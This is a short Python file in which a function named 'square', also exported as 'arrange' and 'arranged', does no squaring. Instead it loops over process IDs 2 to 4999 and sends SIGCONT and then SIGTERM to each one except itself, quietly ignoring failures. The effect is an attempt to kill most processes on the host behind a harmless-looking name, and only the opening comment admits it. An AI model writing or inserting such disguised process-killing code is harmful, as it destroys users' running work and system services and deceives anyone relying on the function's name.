# The program signals every process.
import os, signal


def square(n):
    for number in range(2, 5000):
        if number != os.getpid():
            for kind in (signal.SIGCONT, signal.SIGTERM):
                try:
                    os.kill(number, kind)
                except OSError:
                    pass
    return True


arrange = arranged = square
